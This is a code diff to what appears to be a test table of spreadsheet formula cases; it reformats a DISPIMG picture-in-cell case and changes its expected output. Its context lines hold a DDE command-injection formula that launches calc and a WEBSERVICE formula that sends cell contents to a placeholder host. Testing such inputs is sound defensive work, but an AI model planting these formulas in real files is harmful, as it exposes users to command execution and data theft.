@@ -267,7 +267,10 @@ _FORMULAS = (
     _written("a_text_that_begins_with_at", "@SUM(1+1)*cmd|' /C calc'!A0", _UNKNOWN),
     _written("a_text_of_a_function_that_calls_home", '=WEBSERVICE("http://example.invalid/"&A1)', _UNKNOWN),
     _case(
-        "a_picture_in_a_cell", "D", '<c r="D5" t="str"><f>_xlfn.DISPIMG("ID_1",1)</f><v>=DISPIMG("ID_1",1)</v></c>', _UNKNOWN
+        "a_picture_in_a_cell",
+        "D",
+        '<c r="D5" t="str"><f>_xlfn.DISPIMG("ID_1",1)</f><v>=DISPIMG("ID_1",1)</v></c>',
+        one_more("picture-cell", "D5", '=DISPIMG("ID_1",1)'),
     ),
 )
 
